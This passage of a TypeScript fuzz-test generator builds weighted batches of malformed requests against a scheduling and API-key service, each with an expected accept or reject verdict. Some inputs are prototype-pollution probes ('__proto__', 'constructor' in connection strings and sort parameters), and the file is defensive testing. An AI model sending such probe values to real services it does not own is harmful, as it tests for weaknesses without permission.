      ['cron misspelt month', 'POST', S, { name: unique('Months'), triggerType: 'Cron', patternType: 'Custom', cronExpression: '10 * * Febuary *' }, 'reject'],
      ['disable with 2000 CJK characters of reason', 'POST', `${S}/${refs.scheduleIds[1]}/disable?changeReason=${encodeURIComponent('変'.repeat(2000))}`, undefined, 'accept'],
    ]);
    return { category: 'other', label, verdict, method, path, body };
  };

  /** Nulls, prototype-member names, date-times without an offset, unknown query parameters, the infrastructure key. */
  const strictness = (): BadRequest => {
    const cs = '/api/v1/synchronisation/connected-systems';
    const key = `/api/v1/apikeys/${refs.apiKeyId}`;
    const sql = (connection: string) => ({ name: unique('Sql'), steps: [{ stepIndex: 0, stepType: 'SqlScript', sqlScriptPath: '/opt/x.sql', sqlConnectionString: connection }] });
    const nextRuns = (after: string) => `${S}/${refs.scheduleIds[0]}/next-runs?after=${encodeURIComponent(after)}`;
    const [label, method, path, body, verdict] = rng.pick<[string, string, string, unknown, Verdict]>([
      ['schedule name null', 'POST', S, { name: null }, 'reject'],
      ['step index null', 'POST', S, { name: unique('Null'), steps: [{ stepIndex: null, stepType: 'Executable', executablePath: '/bin/true' }] }, 'reject'],
      ['schedule isEnabled null (nullable)', 'POST', S, { name: unique('Null'), isEnabled: null }, 'accept'],
      ['system name null', 'POST', cs, { name: null }, 'reject'],
      ['api key name null', 'PUT', key, { name: null }, 'reject'],
      ['api key isEnabled null', 'PUT', key, { isEnabled: null }, 'reject'],
      ['api key roles null', 'PUT', key, { roles: null }, 'reject'],
      ['infrastructure key expired', 'PUT', key, { expiresAt: '2000-01-01T00:00:00Z' }, 'reject'],
      ['infrastructure key expiry', 'PUT', key, { expiresAt: '2999-01-01T00:00:00Z' }, 'reject'],
      ['infrastructure key as User and Administrator', 'PUT', key, { roles: ['Administrator', 'User'] }, 'reject'],
      ['infrastructure key unchanged', 'PUT', key, { roles: ['Administrator'], isEnabled: true, expiresAt: null }, 'accept'],
      ['api key expiry without offset', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], expiresAt: '2030-01-01T00:00:00' }, 'reject'],
      ['api key expiry lower-case t and z', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], expiresAt: '2030-01-01t00:00:00.123456z' }, 'accept'],
      ['api key expiry year 0050', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], expiresAt: '0050-01-01T00:00:00Z' }, 'reject'],
      ['api key unknown field', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], colour: 'red' }, 'reject'],
      ['provider constructor', 'POST', S, sql('Provider=constructor;Host=x;Database=d;User=u'), 'reject'],
      ['provider __proto__', 'POST', S, sql('Provider=__proto__;Host=x;Database=d;User=u'), 'reject'],
      ['scheme constructor', 'POST', S, sql('constructor://u:p@x/d'), 'reject'],
      ['after without offset', 'GET', nextRuns('2026-07-13T00:00:00'), undefined, 'reject'],
      ['after lower-case t and z', 'GET', nextRuns('2026-07-13t00:00:00.5z'), undefined, 'accept'],
      ['after with offset', 'GET', nextRuns('2026-07-13T02:00:00+02:00'), undefined, 'accept'],
      ['after 30 February', 'GET', nextRuns('2026-02-30T00:00:00Z'), undefined, 'reject'],
      ['sortBy constructor', 'GET', `${S}?sortBy=constructor`, undefined, 'reject'],
      ['sortBy __proto__', 'GET', `${S}?sortBy=__proto__`, undefined, 'reject'],
      ['execution sortBy constructor', 'GET', '/api/v1/schedule-executions?sortBy=constructor', undefined, 'reject'],
      ['execution sortBy __proto__', 'GET', '/api/v1/schedule-executions?sortBy=__proto__', undefined, 'reject'],
      ['sortBy alias upper case', 'GET', `${S}?sortBy=NEXTRUN`, undefined, 'accept'],
      ['page beyond its maximum', 'GET', `${S}?page=1000002&pageSize=1`, undefined, 'reject'],
      ['unknown parameter on the key list', 'GET', '/api/v1/apikeys?foo=1', undefined, 'reject'],
      ['unknown parameter on active executions', 'GET', '/api/v1/schedule-executions/active?foo=1', undefined, 'reject'],
      ['unknown parameter on run profiles', 'GET', `${cs}/${refs.connectedSystemId}/run-profiles?foo=1`, undefined, 'reject'],
      ['unknown parameter on connected systems', 'GET', `${cs}?foo=1`, undefined, 'reject'],
    ]);
    return { category: 'strictness', label, verdict, method, path, body };
  };

  const race = (): RaceGroup => {
    const stem = unique('Race');
    const size = 2 + rng.int(7);
    const variants = [stem, stem.toLowerCase(), stem.toUpperCase(), ` ${stem} `, `${stem}\t`];
    return {
      race: Array.from({ length: size }, (_, i) => ({
        category: 'race',
        label: `duplicate name ×${size}`,
        verdict: 'any' as Verdict,
        method: 'POST',
        path: S,
        body: { name: variants[i % variants.length], steps: [{ stepIndex: 0, stepType: 'Executable', executablePath: '/bin/true' }] },
      })),
    };
  };

  const valid = (): BadRequest => ({ category: 'valid', label: 'unmutated valid schedule', verdict: 'accept', method: 'POST', path: S, body: baseSchedule() });

  const makers: [number, () => Job][] = [
    [40, mutatedCreate],
    [10, mutatedPut],
    [7, malformed],
    [2, huge],
    [3, deep],
    [12, idGame],
    [1, numericAlias],
    [9, query],
    [4, contentType],
    [7, other],
    [1, race],
    [1, valid],
    [4, strictness],
  ];
  const weight = makers.reduce((n, [w]) => n + w, 0);
  const jobs: Job[] = [];
  let requests = 0;
  while (requests < total) {
    let r = rng.int(weight);
    const [, make] = makers.find(([w]) => (r -= w) < 0)!;
    const job = make();
    jobs.push(job);
    requests += 'race' in job ? job.race.length : 1;
  }
  return jobs;
}
